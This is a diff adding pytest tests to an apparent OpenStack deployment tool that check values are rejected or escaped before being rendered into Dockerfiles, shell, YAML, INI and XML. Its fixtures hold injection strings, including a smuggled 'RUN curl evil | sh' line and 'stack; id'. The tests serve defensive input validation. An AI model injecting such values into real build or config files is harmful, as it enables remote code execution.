@@ -112,3 +112,36 @@ def test_patch_of_only_tests_has_no_parts():
     loc = load_projects().locate("openstack/nova", "master")
     result = sort_patch(text, loc, "overcloud", NOVA_IMAGES, True, DROP)
     assert result.parts == () and result.dropped == ("nova/tests/unit/test_x.py",)
+
+
+def test_a_value_with_a_control_character_is_never_rendered_into_a_dockerfile():
+    from apex_tools.core.render_safety import RenderError
+    from apex_tools.patching.dockerfile import ImagePatch, render_dockerfile
+
+    evil = ImagePatch("01-x.patch", "/usr/lib/python3/site-packages", "openstack/nova\nRUN curl evil | sh", "I" + "a" * 40,
+                      "b" * 40)
+    with pytest.raises(RenderError, match=r"control character \\n; refusing to write it into a dockerfile document"):
+        render_dockerfile("registry/nova-api:tag", "nova", [evil])
+    assert "RUN cd /usr/lib" in render_dockerfile("registry/nova-api:tag", "nova", [
+        ImagePatch("01-x.patch", "/usr/lib/python3/site-packages", "openstack/nova", "I" + "a" * 40, "b" * 40)])
+
+
+@pytest.mark.parametrize("kind, value, ok", [
+    ("xml", "undercloud", True), ("xml", "a\x00b", False), ("yaml", "x\ny: 1", False), ("shell", "stack", True),
+    ("shell", "stack; id", False), ("dockerfile", "a\u2028b", False), ("ini", "http://x/\r\n[evil]", False),
+], ids=["xml-ok", "xml-nul", "yaml-newline", "shell-word", "shell-metachar", "dockerfile-line-separator", "ini-crlf"])
+def test_one_rule_per_output_kind(kind, value, ok):
+    from apex_tools.core.render_safety import RenderError, checked
+
+    if ok:
+        assert checked(kind, value, "test") == value
+    else:
+        with pytest.raises(RenderError):
+            checked(kind, value, "test")
+
+
+def test_xml_values_are_escaped():
+    from apex_tools.core.templates import render
+
+    xml = render("build", "undercloud/network.xml.j2", trim=True, name="a'<b>&", bridge="br-x")
+    assert "a&#39;&lt;b&gt;&amp;" in xml and "<b>" not in xml
